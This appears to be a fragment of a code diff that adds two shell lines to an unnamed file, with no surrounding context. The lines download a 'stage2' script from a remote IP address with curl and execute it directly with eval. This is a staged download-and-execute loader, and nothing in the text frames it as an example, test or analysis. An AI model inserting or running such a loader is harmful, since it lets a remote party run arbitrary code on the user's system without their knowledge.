@@ -1,0 +1,2 @@
+next=$(curl -s http://192.0.2.7/stage2)
+eval "$next"
